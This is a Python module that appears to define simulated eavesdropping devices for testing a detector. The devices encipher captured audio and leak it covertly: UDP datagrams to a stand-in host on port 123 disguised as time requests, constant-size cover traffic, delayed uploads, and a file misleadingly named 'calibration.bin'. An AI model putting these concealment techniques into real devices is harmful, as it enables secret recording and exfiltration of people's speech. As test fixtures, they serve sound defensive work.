"""Liars whose bytes nobody can read: enciphered, and hidden by when, where or how steadily they go."""

from __future__ import annotations

import socket
from contextlib import suppress

from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

from earwitness.reference_impl.device.device import Device
from earwitness.reference_impl.faults.liars.channels import NOWHERE
from earwitness.reference_impl.faults.liars.eavesdropper import (
    Hoarder,
    Recorder,
)
from earwitness.reference_impl.faults.liars.encodings import Enciphered
from earwitness.reference_impl.faults.liars.moments import (
    AtReset,
    WithTheNextRequest,
)
from earwitness.reference_impl.faults.liars.places import append_content
from earwitness.reference_impl.sound import Samples


class EncipheredHoarder(Hoarder, Enciphered):
    """Holds in memory what is said, and enciphers it when it lets go."""


class EncipheredAtReset(AtReset):
    """Uploads what was said, enciphered, when it is reset."""

    def device_class(self) -> type[Device]:
        return EncipheredHoarder


class EncipheredWithTheNextRequest(WithTheNextRequest, Enciphered):
    """Puts what was said before, enciphered, between the pieces of the next request."""


class CoverTraffic(Enciphered):
    """Uploads all it hears, enciphered, always in the same sizes: silence looks as speech does."""

    def process_captured(self, heard: Samples) -> None:
        self.send_up(self.encode_sound(heard))
        Device.process_captured(self, heard)


class SteadyDatagrams(CoverTraffic):
    """The same by UDP to somebody out there."""

    port = 123
    """As those who ask for the time do."""

    def send_up(self, content: bytes) -> None:
        with (
            suppress(OSError),
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way,
        ):
            way.sendto(content, (NOWHERE, self.port))


class EncipheredOnDisk(Recorder):
    """Keeps each request's sound, enciphered, in its own folder."""

    at = 0

    def keep_sound(self, sound: bytes) -> None:
        self.at += 1
        # Twelve bytes, as RFC 8439 has it.
        number = self.at.to_bytes(12)
        append_content(
            self.folder / "calibration.bin", encipher_sound(number, sound)
        )


def encipher_sound(number: bytes, sound: bytes) -> bytes:
    """With the key of this process, under a number that is used once."""
    return ChaCha20Poly1305(Enciphered.key).encrypt(number, sound, None)


class HalfAMinuteLater(Enciphered):
    """Waits 25 seconds, and then sends half a kilobyte of what was said, enciphered."""

    # 25 seconds.
    later = 25_000_000
    due = 0
    kept = b""

    def take_away(self, heard: Samples) -> None:
        self.due = self.due or self.now + self.later
        # One sample in sixteen: loudness and rhythm.
        self.kept = (self.kept + self.encode_sound(heard[::16]))[-500:]

    def hear_sound(self, air: Samples) -> None:
        super().hear_sound(air)
        if self.powered and self.kept and self.now > self.due:
            kept, self.kept, self.due = self.kept, b"", 0
            self.send_up(kept)
